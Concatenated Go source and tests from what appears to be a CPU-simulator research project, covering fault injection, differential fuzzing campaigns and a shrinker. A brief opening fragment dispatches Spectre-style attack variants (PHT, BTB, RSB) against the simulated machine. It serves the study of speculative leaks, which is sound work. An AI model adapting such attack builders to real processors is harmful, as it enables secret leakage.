		return nil, Layout{}, fmt.Errorf("attack: secret index %d out of range", p.SecretIdx)
	}
	switch p.Variant {
	case VariantPHT:
		return buildPHT(p)
	case VariantBTB:
		return buildBTB(p)
	case VariantRSBOverwrite:
		return buildRSBOverwrite(p)
	case VariantRSBFlush:
		return buildRSBFlush(p)
	}
	return nil, Layout{}, fmt.Errorf("attack: unknown variant %d", p.Variant)
}

// MustBuild panics on error (experiment drivers with constant parameters).
func MustBuild(p Params) (*asm.Program, Layout) {
	prog, l, err := Build(p)
	if err != nil {
		panic(err)
	}
	return prog, l
}

// ReadLatencies extracts the probe-loop measurements from a finished run.
func ReadLatencies(c *cpu.CPU, l Layout) []uint64 {
	return c.Mem().ReadU64Slice(l.Results, probeCount)
}
