package faultinject

import (
	"context"
	"testing"
	"time"
)

func TestInertWhenDisabled(t *testing.T) {
	Disable()
	if Active() {
		t.Fatal("active with no plan")
	}
	for pt := Point(0); pt < numPoints; pt++ {
		if Fire(pt) {
			t.Fatalf("%s fired while disabled", pt)
		}
		if err := Err(pt); err != nil {
			t.Fatalf("%s errored while disabled: %v", pt, err)
		}
	}
	// Stall must return immediately when disabled.
	start := time.Now()
	Stall(context.Background(), JobStall)
	if d := time.Since(start); d > 100*time.Millisecond {
		t.Fatalf("disabled stall slept %v", d)
	}
}

func TestFirstKFiresExactly(t *testing.T) {
	Enable(Config{Points: map[Point]PointConfig{DiskWrite: {First: 3}}})
	defer Disable()
	fired := 0
	for i := 0; i < 100; i++ {
		if Fire(DiskWrite) {
			fired++
		}
	}
	if fired != 3 {
		t.Fatalf("first=3 fired %d times over 100 hits", fired)
	}
	// Other points are untouched.
	if Fire(DiskRead) {
		t.Fatal("unconfigured point fired")
	}
}

// TestRateDeterministicPerSeed pins the seed-driven rule: the set of firing
// hit indices is a pure function of (seed, point), identical across plans.
func TestRateDeterministicPerSeed(t *testing.T) {
	pattern := func(seed uint64) []bool {
		Enable(Config{Seed: seed, Points: map[Point]PointConfig{WorkerPanic: {Rate: 4}}})
		defer Disable()
		out := make([]bool, 256)
		for i := range out {
			out[i] = Fire(WorkerPanic)
		}
		return out
	}
	a, b := pattern(42), pattern(42)
	fired := 0
	for i := range a {
		if a[i] != b[i] {
			t.Fatalf("hit %d differs across identical plans", i)
		}
		if a[i] {
			fired++
		}
	}
	if fired == 0 || fired == len(a) {
		t.Fatalf("rate=4 fired %d/%d hits, want a nontrivial fraction", fired, len(a))
	}
	// A different seed yields a different pattern.
	c := pattern(43)
	same := true
	for i := range a {
		if a[i] != c[i] {
			same = false
			break
		}
	}
	if same {
		t.Fatal("seed 42 and 43 fire identically over 256 hits")
	}
}

func TestErrIsInjected(t *testing.T) {
	Enable(Config{Points: map[Point]PointConfig{Fsync: {First: 1}}})
	defer Disable()
	err := Err(Fsync)
	if err == nil || !IsInjected(err) {
		t.Fatalf("Err = %v, want injected", err)
	}
	if err := Err(Fsync); err != nil {
		t.Fatalf("second hit errored: %v", err)
	}
}

func TestStallRespectsContext(t *testing.T) {
	Enable(Config{StallFor: time.Minute, Points: map[Point]PointConfig{JobStall: {First: 1}}})
	defer Disable()
	ctx, cancel := context.WithCancel(context.Background())
	go func() {
		time.Sleep(20 * time.Millisecond)
		cancel()
	}()
	start := time.Now()
	Stall(ctx, JobStall)
	if d := time.Since(start); d > 5*time.Second {
		t.Fatalf("cancelled stall slept %v", d)
	}
}

func TestParseEnv(t *testing.T) {
	cfg, on, err := ParseEnv("seed=7;rate=8;points=disk.write,worker.panic;stall=250ms")
	if err != nil || !on {
		t.Fatalf("parse: on=%v err=%v", on, err)
	}
	if cfg.Seed != 7 || cfg.StallFor != 250*time.Millisecond {
		t.Fatalf("cfg = %+v", cfg)
	}
	for _, pt := range []Point{DiskWrite, WorkerPanic} {
		if cfg.Points[pt].Rate != 8 {
			t.Fatalf("%s rate = %d", pt, cfg.Points[pt].Rate)
		}
	}
	if _, on, err := ParseEnv(""); on || err != nil {
		t.Fatalf("empty env: on=%v err=%v", on, err)
	}
	for _, bad := range []string{
		"rate=8",                      // no points
		"points=disk.write",           // no rule
		"seed=x;rate=1;points=fsync",  // bad number
		"rate=1;points=nope",          // unknown point
		"bogus",                       // not key=value
		"rate=1;points=fsync;what=no", // unknown key
	} {
		if _, _, err := ParseEnv(bad); err == nil {
			t.Fatalf("ParseEnv(%q) accepted", bad)
		}
	}
}
