// Package faultinject provides deterministic, seed-driven fault points for
// the crash-safety layers: disk read/write errors, fsync failures, journal
// write errors, injected worker panics and artificial job stalls.
//
// The points are compiled into the production paths but are provably inert
// unless a plan is installed: every check starts with one atomic pointer
// load against nil, the same pattern as cpu.SetObserver/SetTracer, so the
// perf floor is unaffected when chaos is off.
//
// Determinism: each point keeps a per-point hit counter, and whether hit n
// of a point fires is a pure function of (seed, point, n).  Two fire rules
// compose per point:
//
//   - First: hits 1..First fire unconditionally (exact, scheduling-proof —
//     the chaos identity suites use this).
//   - Rate: hit n additionally fires when splitmix64(seed, point, n) mod
//     Rate == 0, roughly one in Rate hits, reproducible per seed.
//
// Which goroutine observes a given hit index depends on scheduling, but the
// set of faulted hit indices per point does not — and because every SPECRUN
// simulation is idempotent, retried work converges to byte-identical
// results regardless of interleaving.
package faultinject

import (
	"context"
	"errors"
	"fmt"
	"strconv"
	"strings"
	"sync/atomic"
	"time"
)

// Point names one instrumented failure site.
type Point uint8

const (
	DiskWrite   Point = iota // rescache disk tier: entry write fails
	DiskRead                 // rescache disk tier: entry read fails
	Fsync                    // any fsync (cache entries, journal records)
	JournalWrite             // server job journal: append fails
	WorkerPanic              // sweep engine: worker panics before running a job
	JobStall                 // server job runner: stalls long enough to expire its lease
	numPoints
)

var pointNames = [numPoints]string{
	DiskWrite:    "disk.write",
	DiskRead:     "disk.read",
	Fsync:        "fsync",
	JournalWrite: "journal.write",
	WorkerPanic:  "worker.panic",
	JobStall:     "job.stall",
}

func (p Point) String() string {
	if int(p) < len(pointNames) {
		return pointNames[p]
	}
	return "point(" + strconv.Itoa(int(p)) + ")"
}

// PointConfig selects when one point fires.  Zero values disable a rule;
// a PointConfig with both rules zero never fires.
type PointConfig struct {
	First uint64 // hits 1..First fire unconditionally
	Rate  uint64 // additionally fire ~one in Rate hits, seed-scrambled
}

// Config is a fault plan.
type Config struct {
	Seed   uint64
	Points map[Point]PointConfig
	// StallFor bounds each JobStall sleep (0 = 2s).  Stalls end early when
	// the caller's context is cancelled — e.g. by a lease-expiry reclaim.
	StallFor time.Duration
}

// plan is the installed runtime state.
type plan struct {
	cfg  Config
	hits [numPoints]atomic.Uint64
}

var active atomic.Pointer[plan]

// injected is the sentinel all fault-point errors wrap, so callers and tests
// can errors.Is them apart from real failures.
var injected = errors.New("injected fault")

// IsInjected reports whether err came from a fault point.
func IsInjected(err error) bool { return errors.Is(err, injected) }

// Enable installs a fault plan (replacing any previous one).
func Enable(cfg Config) {
	p := &plan{cfg: cfg}
	active.Store(p)
}

// Disable removes the plan; every point becomes inert again.
func Disable() { active.Store(nil) }

// Active reports whether a plan is installed.
func Active() bool { return active.Load() != nil }

// TotalFired reports how many faults have fired since Enable (0 when inert).
var totalFired atomic.Uint64

// Fired returns the process-lifetime count of faults that fired.
func Fired() uint64 { return totalFired.Load() }

// Fire reports whether point pt faults on this hit.  Inert (one atomic nil
// check) when no plan is installed.
func Fire(pt Point) bool {
	p := active.Load()
	if p == nil {
		return false
	}
	return p.fire(pt)
}

// Err returns an injected error when point pt fires, nil otherwise.
func Err(pt Point) error {
	p := active.Load()
	if p == nil {
		return nil
	}
	if p.fire(pt) {
		return fmt.Errorf("faultinject: %s: %w", pt, injected)
	}
	return nil
}

// Stall sleeps for the plan's StallFor when point pt fires, returning early
// if ctx is cancelled.  Inert when no plan is installed.
func Stall(ctx context.Context, pt Point) {
	p := active.Load()
	if p == nil || !p.fire(pt) {
		return
	}
	d := p.cfg.StallFor
	if d <= 0 {
		d = 2 * time.Second
	}
	t := time.NewTimer(d)
	defer t.Stop()
	select {
	case <-t.C:
	case <-ctx.Done():
	}
}

func (p *plan) fire(pt Point) bool {
	pc, ok := p.cfg.Points[pt]
	if !ok {
		return false
	}
	n := p.hits[pt].Add(1)
	fired := false
	if pc.First > 0 && n <= pc.First {
		fired = true
	} else if pc.Rate > 0 && splitmix64(p.cfg.Seed^(uint64(pt)<<56)^n)%pc.Rate == 0 {
		fired = true
	}
	if fired {
		totalFired.Add(1)
	}
	return fired
}

// splitmix64 is the SplitMix64 finalizer: a bijective scramble, so the fire
// pattern is a reproducible pseudo-random function of (seed, point, hit).
func splitmix64(x uint64) uint64 {
	x += 0x9e3779b97f4a7c15
	x = (x ^ (x >> 30)) * 0xbf58476d1ce4e5b9
	x = (x ^ (x >> 27)) * 0x94d049bb133111eb
	return x ^ (x >> 31)
}

// ParseEnv parses the SPECRUN_FAULTS knob:
//
//	seed=42;rate=16;first=0;points=disk.write,worker.panic;stall=500ms
//
// Fields are semicolon-separated.  rate/first apply to every listed point;
// points is a comma-separated list of point names (see Point.String).  An
// empty string yields an all-zero Config and enabled=false.
func ParseEnv(s string) (Config, bool, error) {
	cfg := Config{Points: map[Point]PointConfig{}}
	if strings.TrimSpace(s) == "" {
		return cfg, false, nil
	}
	var pc PointConfig
	var pts []Point
	for _, field := range strings.Split(s, ";") {
		field = strings.TrimSpace(field)
		if field == "" {
			continue
		}
		k, v, ok := strings.Cut(field, "=")
		if !ok {
			return cfg, false, fmt.Errorf("faultinject: bad field %q (want key=value)", field)
		}
		switch k {
		case "seed":
			n, err := strconv.ParseUint(v, 10, 64)
			if err != nil {
				return cfg, false, fmt.Errorf("faultinject: seed: %w", err)
			}
			cfg.Seed = n
		case "rate":
			n, err := strconv.ParseUint(v, 10, 64)
			if err != nil {
				return cfg, false, fmt.Errorf("faultinject: rate: %w", err)
			}
			pc.Rate = n
		case "first":
			n, err := strconv.ParseUint(v, 10, 64)
			if err != nil {
				return cfg, false, fmt.Errorf("faultinject: first: %w", err)
			}
			pc.First = n
		case "stall":
			d, err := time.ParseDuration(v)
			if err != nil {
				return cfg, false, fmt.Errorf("faultinject: stall: %w", err)
			}
			cfg.StallFor = d
		case "points":
			for _, name := range strings.Split(v, ",") {
				name = strings.TrimSpace(name)
				pt, err := pointByName(name)
				if err != nil {
					return cfg, false, err
				}
				pts = append(pts, pt)
			}
		default:
			return cfg, false, fmt.Errorf("faultinject: unknown field %q", k)
		}
	}
	if len(pts) == 0 {
		return cfg, false, fmt.Errorf("faultinject: no points listed")
	}
	if pc.Rate == 0 && pc.First == 0 {
		return cfg, false, fmt.Errorf("faultinject: neither rate nor first set")
	}
	for _, pt := range pts {
		cfg.Points[pt] = pc
	}
	return cfg, true, nil
}

func pointByName(name string) (Point, error) {
	for p, n := range pointNames {
		if n == name {
			return Point(p), nil
		}
	}
	return 0, fmt.Errorf("faultinject: unknown point %q (known: %s)", name, strings.Join(pointNames[:], ", "))
}
