package difftest

import (
	"context"
	"strings"
	"testing"

	"specrun/internal/proggen"
	"specrun/internal/sweep"
)

// The interleave oracle on a healthy tree: A, B, A′ on one reused machine
// must be identical across the full configuration matrix.
func TestInterleaveClean(t *testing.T) {
	opt := proggen.DefaultOptions()
	opt.Gadgets = true
	cfgs := Matrix(true)
	for seed := int64(1); seed <= 5; seed++ {
		res := CheckInterleave(seed, opt, cfgs)
		for _, d := range res.Divergences {
			t.Errorf("seed %d, %s: [%s] %s", d.Seed, d.Config, d.Kind, d.Detail)
		}
		if len(res.PerConfig) != len(cfgs) {
			t.Fatalf("seed %d: %d per-config rows, want %d", seed, len(res.PerConfig), len(cfgs))
		}
	}
}

// An interleave campaign through the standard runner: spec-driven, sharded,
// deterministic, and clean.
func TestInterleaveCampaign(t *testing.T) {
	spec := CampaignSpec{Seeds: 20, Interleave: true}
	rep, err := Run(context.Background(), spec, sweep.Options{})
	if err != nil {
		t.Fatal(err)
	}
	if !rep.Clean {
		t.Fatalf("interleave campaign found leaks: %+v", rep.Divergences)
	}
	if rep.Runs != 20*rep.Configs {
		t.Fatalf("runs = %d, want %d", rep.Runs, 20*rep.Configs)
	}
}

// The oracle must actually detect leaks: snapshots that differ in any
// compared dimension produce a state_leak divergence description.
func TestInterleaveDetectsDifferences(t *testing.T) {
	a := machineSnapshot{recs: []record{{pc: 0x40, op: "add", dest: "r1", v: 1}}}
	b := machineSnapshot{recs: []record{{pc: 0x40, op: "add", dest: "r1", v: 2}}}
	if d := diffSnapshots(a, b); !strings.Contains(d, "commit stream") {
		t.Fatalf("stream diff not detected: %q", d)
	}
	b = a
	b.recs = append([]record(nil), a.recs...)
	b.stats.Cycles = 7
	if d := diffSnapshots(a, b); !strings.Contains(d, "stats") {
		t.Fatalf("stats diff not detected: %q", d)
	}
	b.stats.Cycles = a.stats.Cycles
	b.ints[3] = 9
	if d := diffSnapshots(a, b); !strings.Contains(d, "register") {
		t.Fatalf("register diff not detected: %q", d)
	}
	b.ints[3] = a.ints[3]
	a.mem = []uint64{1, 2}
	b.mem = []uint64{1, 3}
	if d := diffSnapshots(a, b); !strings.Contains(d, "memory") {
		t.Fatalf("memory diff not detected: %q", d)
	}
}
