package difftest

import (
	"fmt"

	"specrun/internal/cpu"
	"specrun/internal/mem"
	"specrun/internal/runahead"
)

// NamedConfig is one point of the differential configuration matrix.
type NamedConfig struct {
	Name   string
	Config cpu.Config
}

// Matrix returns the configuration set a campaign checks every seed
// against.  The quick set (full=false) covers each runahead variant once,
// the §6 defenses, a small reorder buffer and a deliberately starved "tiny"
// machine with undersized caches (maximum eviction/write-back pressure and
// runahead entry on L2 misses).  The full set is the cross product
// runahead kind × secure × ROB size that the acceptance matrix demands.
func Matrix(full bool) []NamedConfig {
	kinds := []runahead.Kind{runahead.KindNone, runahead.KindOriginal, runahead.KindPrecise, runahead.KindVector}
	if !full {
		out := make([]NamedConfig, 0, 8)
		for _, k := range kinds {
			out = append(out, point(k, false, 256))
		}
		out = append(out,
			point(runahead.KindOriginal, true, 256),
			skipINVPoint(256),
			point(runahead.KindOriginal, false, 48),
			tinyPoint(),
		)
		return out
	}
	out := make([]NamedConfig, 0, 19)
	for _, k := range kinds {
		for _, rob := range []int{48, 256} {
			out = append(out, point(k, false, rob), point(k, true, rob))
		}
	}
	out = append(out, skipINVPoint(48), skipINVPoint(256), tinyPoint())
	return out
}

func point(kind runahead.Kind, secure bool, rob int) NamedConfig {
	cfg := cpu.DefaultConfig()
	cfg.Runahead.Kind = kind
	cfg.Secure.Enabled = secure
	cfg.ROBSize = rob
	name := fmt.Sprintf("%s-rob%d", kind, rob)
	if secure {
		name += "-secure"
	}
	return NamedConfig{Name: name, Config: cfg}
}

func skipINVPoint(rob int) NamedConfig {
	nc := point(runahead.KindOriginal, false, rob)
	nc.Config.Runahead.SkipINVBranch = true
	nc.Name = fmt.Sprintf("skipinv-rob%d", rob)
	return nc
}

// tinyPoint is a starved machine: a 32-entry window, minimal queues and
// register files, and caches small enough that generated programs thrash
// them — the configuration that exercises eviction, write-back and MSHR
// corner cases the Table 1 machine rarely reaches.
func tinyPoint() NamedConfig {
	cfg := cpu.DefaultConfig()
	cfg.ROBSize = 32
	cfg.IQSize = 8
	cfg.LQSize = 6
	cfg.SQSize = 6
	cfg.IntPRF = 48
	cfg.FPPRF = 24
	cfg.VecPRF = 24
	cfg.FrontQ = 4
	cfg.Mem.L1I = mem.CacheConfig{Name: "L1I", Size: 4 << 10, Assoc: 2, Latency: 2}
	cfg.Mem.L1D = mem.CacheConfig{Name: "L1D", Size: 4 << 10, Assoc: 2, Latency: 2}
	cfg.Mem.L2 = mem.CacheConfig{Name: "L2", Size: 16 << 10, Assoc: 4, Latency: 8}
	cfg.Mem.L3 = mem.CacheConfig{Name: "L3", Size: 64 << 10, Assoc: 8, Latency: 32}
	cfg.Runahead.Kind = runahead.KindOriginal
	cfg.Runahead.TriggerLevel = mem.LevelL2
	return NamedConfig{Name: "tiny", Config: cfg}
}
