package difftest

import (
	"context"

	"specrun/internal/proggen"
)

// Shrink minimizes the generator options for a seed that diverges under nc:
// it disables one generator feature at a time (keeping any reduction that
// still diverges), bisects the body length down to the smallest failing
// prefix, and finally tries shrinking the scratch buffer.  The returned
// options, with the same seed and config, still reproduce a divergence —
// ready to check in as a regression test.  Shrinking is best-effort: if ctx
// is cancelled the current best reduction is returned.
func Shrink(ctx context.Context, seed int64, opt proggen.Options, nc NamedConfig) proggen.Options {
	return shrinkWith(ctx, opt, func(o proggen.Options) bool {
		return len(CheckSeed(seed, o, []NamedConfig{nc}).Divergences) > 0
	})
}

// ShrinkWith is the generic reduction loop over an arbitrary failure
// predicate: the leak oracle (specrun/internal/leak) reuses the exact
// difftest reduction strategy with "still leaks under this config" as the
// predicate, so leak reproducers minimize the same way divergences do.
func ShrinkWith(ctx context.Context, opt proggen.Options, fails func(proggen.Options) bool) proggen.Options {
	return shrinkWith(ctx, opt, fails)
}

// shrinkWith is the reduction loop (split out so the strategy itself is
// testable without a real divergence).
func shrinkWith(ctx context.Context, opt proggen.Options, fails func(proggen.Options) bool) proggen.Options {
	// Feature ablation, most structural first.  Each trial regenerates the
	// whole program (the RNG stream shifts), so a reduction is kept only
	// when the smaller feature set still diverges.
	features := []func(*proggen.Options){
		func(o *proggen.Options) { o.Gadgets = false },
		func(o *proggen.Options) { o.Vector = false },
		func(o *proggen.Options) { o.FloatOps = false },
		func(o *proggen.Options) { o.Calls = false },
		func(o *proggen.Options) { o.Flushes = false },
		func(o *proggen.Options) { o.Loops = false },
	}
	for _, disable := range features {
		if ctx.Err() != nil {
			return opt
		}
		trial := opt
		disable(&trial)
		if trial != opt && fails(trial) {
			opt = trial
		}
	}

	// Bisect the body length: invariant — opt.Len fails.
	lo, hi := 1, opt.Len
	for lo < hi {
		if ctx.Err() != nil {
			return opt
		}
		mid := lo + (hi-lo)/2
		trial := opt
		trial.Len = mid
		if fails(trial) {
			hi = mid
		} else {
			lo = mid + 1
		}
	}
	opt.Len = hi

	// A smaller scratch buffer makes the reproducer's memory compare (and
	// cache behaviour) easier to reason about.
	if ctx.Err() == nil && opt.BufBytes > 512 {
		trial := opt
		trial.BufBytes = 512
		trial.StackBytes = 256
		if fails(trial) {
			opt = trial
		}
	}
	return opt
}
