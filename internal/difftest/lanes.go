package difftest

import (
	"specrun/internal/cpu"
	"specrun/internal/proggen"
)

// CheckSeedLanes is CheckSeed with the seed's configuration runs advanced in
// lockstep lane groups by the batch driver instead of one Run call each: the
// reference interpreter executes once, then up to `lanes` pipeline machines
// tick together per group.  The result is byte-identical to CheckSeed at any
// lane count — machines share nothing, divergences and per-config stats keep
// configuration order — so campaigns can raise lanes freely.
func CheckSeedLanes(seed int64, opt proggen.Options, cfgs []NamedConfig, lanes int) SeedResult {
	if lanes <= 1 {
		return CheckSeed(seed, opt, cfgs)
	}
	if lanes > RunnerCacheCap {
		lanes = RunnerCacheCap // a group must never evict its own machines
	}
	rc := runnerCaches.Get()
	defer runnerCaches.Put(rc)
	prog := proggen.Generate(seed, opt)
	res := SeedResult{Seed: seed}
	issRecs, ref, err := rc.refStream(prog)
	if err != nil {
		res.Divergences = append(res.Divergences, Divergence{
			Seed: seed, Config: "iss", Kind: KindRunError, Detail: err.Error(),
		})
		return res
	}
	for len(rc.laneRecs) < lanes {
		rc.laneRecs = append(rc.laneRecs, make([]record, 0, 4096))
	}
	for lo := 0; lo < len(cfgs); lo += lanes {
		group := cfgs[lo:min(lo+lanes, len(cfgs))]
		ms := rc.laneMs[:0]
		for gi, nc := range group {
			c := rc.entryFor(nc, prog).c
			buf := &rc.laneRecs[gi]
			*buf = (*buf)[:0]
			c.SetCommitHook(func(r cpu.CommitRecord) {
				*buf = append(*buf, record{pc: r.PC, op: r.Op.Name(), dest: destString(r.Dest), v: r.Val, v2: r.Val2})
			})
			ms = append(ms, c)
		}
		errs := rc.laneErrs[:0]
		for range group {
			errs = append(errs, nil)
		}
		cpu.RunLockstep(ms, cpuBudget, errs)
		rc.laneMs, rc.laneErrs = ms[:0], errs[:0]
		for gi, nc := range group {
			c := ms[gi]
			c.SetCommitHook(nil)
			recs := rc.laneRecs[gi]
			diverge := func(kind, detail string) {
				res.Divergences = append(res.Divergences, Divergence{
					Seed: seed, Config: nc.Name, Kind: kind, Detail: detail,
				})
			}
			if errs[gi] != nil {
				diverge(KindRunError, errs[gi].Error())
				continue
			}
			st := c.Stats()
			res.PerConfig = append(res.PerConfig, ConfigRunStats{
				Name: nc.Name, Episodes: st.RunaheadEpisodes, Committed: st.Committed, Cycles: st.Cycles,
			})
			if d := diffStreams(issRecs, recs); d != "" {
				diverge(KindCommitStream, d)
			}
			if d := diffArch(ref, c); d != "" {
				diverge(KindFinalState, d)
			}
			if d := diffMemory(prog, opt, ref, c); d != "" {
				diverge(KindFinalMem, d)
			}
			if d := cacheInvariants(nc.Config, c); d != "" {
				diverge(KindCacheStats, d)
			}
		}
	}
	return res
}
