package difftest

import (
	"context"
	"encoding/json"
	"reflect"
	"testing"

	"specrun/internal/proggen"
	"specrun/internal/sweep"
)

// TestCheckSeedLaneInvariant pins the lockstep seed checker's contract: the
// per-seed result is identical to the serial checker at every lane count,
// including widths that don't divide the quick matrix evenly.
func TestCheckSeedLaneInvariant(t *testing.T) {
	cfgs := Matrix(false)
	opt := proggen.DefaultOptions()
	for seed := int64(1); seed <= 3; seed++ {
		want := CheckSeed(seed, opt, cfgs)
		for _, lanes := range []int{1, 3, 4, 16} {
			got := CheckSeedLanes(seed, opt, cfgs, lanes)
			if !reflect.DeepEqual(got, want) {
				t.Fatalf("seed %d lanes=%d: result diverged from serial:\nbatched: %+v\nserial:  %+v", seed, lanes, got, want)
			}
		}
	}
}

// TestCampaignLaneInvariant pins the campaign-level invariant: the report —
// the wire document POST /v1/run/fuzz caches by content — is byte-identical
// across lane counts and against the serial path.
func TestCampaignLaneInvariant(t *testing.T) {
	spec := CampaignSpec{Seeds: 4, Matrix: "quick", NoShrink: true}
	serial, err := Run(context.Background(), spec, sweep.Options{Workers: 2})
	if err != nil {
		t.Fatal(err)
	}
	want, err := json.Marshal(serial)
	if err != nil {
		t.Fatal(err)
	}
	for _, lanes := range []int{4, 16} {
		rep, err := RunLanes(context.Background(), spec, sweep.Options{Workers: 2}, lanes)
		if err != nil {
			t.Fatalf("lanes=%d: %v", lanes, err)
		}
		got, err := json.Marshal(rep)
		if err != nil {
			t.Fatal(err)
		}
		if string(got) != string(want) {
			t.Errorf("lanes=%d: campaign report diverged from serial:\nbatched: %s\nserial:  %s", lanes, got, want)
		}
	}
}
