package difftest

import (
	"bytes"
	"encoding/json"
	"testing"

	"specrun/internal/prog"
	"specrun/internal/proggen"
)

// A reproducer carries the canonical .sprog artifact of its reduced
// program: exactly what re-generating from (seed, options) encodes to.
func TestNewReproducerArtifact(t *testing.T) {
	opt := proggen.DefaultOptions()
	r := NewReproducer(7, opt, "baseline")
	if len(r.Sprog) == 0 {
		t.Fatal("reproducer has no .sprog artifact")
	}
	want, _, err := proggen.Artifact(7, opt)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(r.Sprog, want) {
		t.Fatal("artifact differs from re-generated encoding")
	}
	if _, err := prog.Decode(r.Sprog); err != nil {
		t.Fatalf("artifact does not decode: %v", err)
	}

	// The JSON wire form carries the artifact base64-encoded and survives a
	// decode round trip (reproducers are shipped inside campaign reports).
	b, err := json.Marshal(r)
	if err != nil {
		t.Fatal(err)
	}
	var back Reproducer
	if err := json.Unmarshal(b, &back); err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(back.Sprog, r.Sprog) {
		t.Fatal("sprog lost in JSON round trip")
	}
}
