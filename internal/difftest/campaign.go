package difftest

import (
	"context"
	"fmt"

	"specrun/internal/proggen"
	"specrun/internal/sweep"
)

// CampaignSpec parameterises one fuzzing campaign.  It is the wire document
// shared by `specrun fuzz` and POST /v1/run/fuzz; the report for a spec is
// fully deterministic (no wall-clock fields), so results are content-
// addressable like every other driver.
type CampaignSpec struct {
	Seeds    int    `json:"seeds,omitempty"`     // number of seeds (default 1000)
	SeedBase int64  `json:"seed_base,omitempty"` // first seed (default 1)
	Matrix   string `json:"matrix,omitempty"`    // "quick" (default) | "full"
	Len      int    `json:"len,omitempty"`       // proggen body length (0 = default)
	NoShrink bool   `json:"no_shrink,omitempty"` // skip minimizing failing seeds
	// Interleave switches the oracle from per-seed ISS lockstep (CheckSeed)
	// to the cross-run state-leak hunt (CheckInterleave): each seed's
	// program runs twice on one reused machine with an unrelated program in
	// between, and the two runs must be identical.
	Interleave bool `json:"interleave,omitempty"`
	// Leaks switches the campaign to the microarchitectural leak oracle
	// (specrun/internal/leak): each seed's program runs twice with two
	// secret valuations and the speculative observation traces are diffed.
	// The leak engine owns the execution (leak.Run); difftest.Run rejects a
	// Leaks spec.  The field lives here so the one wire document — and its
	// content-addressed cache key — covers both engines (omitempty keeps
	// every pre-existing spec hash unchanged).
	Leaks bool `json:"leaks,omitempty"`
}

// WithDefaults fills the CLI-equivalent defaults, so an explicit default and
// an omitted field run (and content-hash) identically.
func (s CampaignSpec) WithDefaults() CampaignSpec {
	if s.Seeds == 0 {
		s.Seeds = 1000
	}
	if s.SeedBase == 0 {
		s.SeedBase = 1
	}
	if s.Matrix == "" {
		s.Matrix = "quick"
	}
	if s.Len == 0 {
		s.Len = proggen.DefaultOptions().Len
	}
	return s
}

// Options returns the generator options the campaign fuzzes with.
func (s CampaignSpec) Options() proggen.Options {
	opt := proggen.DefaultOptions()
	if s.Len > 0 {
		opt.Len = s.Len
	}
	return opt
}

// Configs resolves the named matrix.
func (s CampaignSpec) Configs() ([]NamedConfig, error) {
	switch s.Matrix {
	case "", "quick":
		return Matrix(false), nil
	case "full":
		return Matrix(true), nil
	}
	return nil, fmt.Errorf("difftest: unknown matrix %q (quick|full)", s.Matrix)
}

// ConfigSummary aggregates a campaign's runs for one configuration.
type ConfigSummary struct {
	Config      string `json:"config"`
	Runs        int    `json:"runs"`
	Divergences int    `json:"divergences"`
	Episodes    uint64 `json:"runahead_episodes"`
	Committed   uint64 `json:"committed"`
	Cycles      uint64 `json:"cycles"`
}

// Report is the campaign outcome.  For a given spec it is deterministic
// across runs and across worker counts (an invariant the tests pin).
type Report struct {
	Spec        CampaignSpec    `json:"spec"`
	Configs     int             `json:"configs"`
	Runs        int             `json:"runs"` // seed×config simulations completed
	Clean       bool            `json:"clean"`
	Divergences []Divergence    `json:"divergences"`
	PerConfig   []ConfigSummary `json:"per_config"`
}

// Run executes a campaign: seeds shard across the sweep engine (honouring a
// sweep.Gate installed on ctx — the server's worker budget), results
// aggregate in seed order, and each divergent seed is minimized by the
// shrinker unless the spec opts out.  A cancelled campaign returns the
// partial report plus the context error.
func Run(ctx context.Context, spec CampaignSpec, opt sweep.Options) (Report, error) {
	return RunLanes(ctx, spec, opt, 1)
}

// RunLanes is Run with each seed's configuration matrix advanced in lockstep
// lane groups of the given width (CheckSeedLanes).  The report is
// byte-identical to Run at any lane count, so lanes stays out of the
// content-addressed CampaignSpec: it is an execution knob, not part of the
// experiment's identity.  The interleave oracle has no batched path and runs
// serially regardless of lanes.
func RunLanes(ctx context.Context, spec CampaignSpec, opt sweep.Options, lanes int) (Report, error) {
	spec = spec.WithDefaults()
	if spec.Leaks {
		return Report{}, fmt.Errorf("difftest: leak campaigns run via specrun/internal/leak")
	}
	if spec.Seeds < 1 {
		return Report{}, fmt.Errorf("difftest: seeds %d out of range", spec.Seeds)
	}
	if spec.Len < 1 {
		return Report{}, fmt.Errorf("difftest: len %d out of range", spec.Len)
	}
	cfgs, err := spec.Configs()
	if err != nil {
		return Report{}, err
	}
	popt := spec.Options()

	seeds := make([]int64, spec.Seeds)
	for i := range seeds {
		seeds[i] = spec.SeedBase + int64(i)
	}
	check := func(seed int64, popt proggen.Options, cfgs []NamedConfig) SeedResult {
		return CheckSeedLanes(seed, popt, cfgs, lanes)
	}
	if spec.Interleave {
		check = CheckInterleave
	}
	results, runErr := sweep.Run(ctx, seeds, func(_ context.Context, seed int64) (SeedResult, error) {
		return check(seed, popt, cfgs), nil
	}, opt)

	rep := Report{Spec: spec, Configs: len(cfgs)}
	rep.PerConfig = make([]ConfigSummary, len(cfgs))
	perCfg := make(map[string]*ConfigSummary, len(cfgs))
	for i, nc := range cfgs {
		rep.PerConfig[i] = ConfigSummary{Config: nc.Name}
		perCfg[nc.Name] = &rep.PerConfig[i]
	}
	for _, r := range results {
		if r.PerConfig == nil && r.Divergences == nil {
			continue // cancelled before this seed ran
		}
		for _, cs := range r.PerConfig {
			s := perCfg[cs.Name]
			s.Runs++
			s.Episodes += cs.Episodes
			s.Committed += cs.Committed
			s.Cycles += cs.Cycles
			rep.Runs++
		}
		for _, d := range r.Divergences {
			if s := perCfg[d.Config]; s != nil {
				s.Divergences++
			}
			rep.Divergences = append(rep.Divergences, d)
		}
	}
	rep.Clean = len(rep.Divergences) == 0

	if !spec.NoShrink && !spec.Interleave { // the shrinker minimizes against the ISS oracle only
		byName := make(map[string]NamedConfig, len(cfgs))
		for _, nc := range cfgs {
			byName[nc.Name] = nc
		}
		// One seed typically diverges on many configurations for the same
		// root cause (all four seeds of the first campaign did), so shrink
		// each seed once — against its first divergent configuration — and
		// attach that reproducer to every divergence of the seed.  The
		// shrinker's simulations hold a slot of the shared worker budget,
		// like every other simulation the server runs.
		gate := opt.Gate
		if gate == nil {
			gate = sweep.GateFrom(ctx)
		}
		shrunkBySeed := make(map[int64]*Reproducer)
		for i := range rep.Divergences {
			d := &rep.Divergences[i]
			nc, ok := byName[d.Config]
			if !ok || ctx.Err() != nil {
				continue
			}
			min, ok := shrunkBySeed[d.Seed]
			if !ok {
				if gate != nil {
					if gate.Acquire(ctx) != nil {
						continue // cancelled while waiting for a slot
					}
				}
